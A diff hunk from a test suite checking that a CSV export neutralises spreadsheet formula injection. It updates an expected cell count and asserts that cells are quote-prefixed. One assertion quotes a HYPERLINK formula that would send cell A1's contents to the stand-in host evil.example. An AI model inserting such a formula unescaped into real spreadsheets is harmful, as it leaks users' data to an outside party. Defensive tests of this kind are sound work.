@@ -30,7 +30,7 @@ describe('CSV export against spreadsheet formulas', () => {
     expect((await put(`-${prefix}@example.com`, { note: "'=already quoted" })).status).toBe(200)
     const csv = (await exportCsv(prefix)) + (await exportCsv(`-${prefix}`)).split('\n').slice(1).join('\n')
     const cells = await cellsOf(csv)
-    expect(cells.length).toBe(7 * (notes.length + 2))
+    expect(cells.length).toBe(9 * (notes.length + 2))
     for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
     expect(csv).toContain(`'-${prefix}@example.com`)
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`)
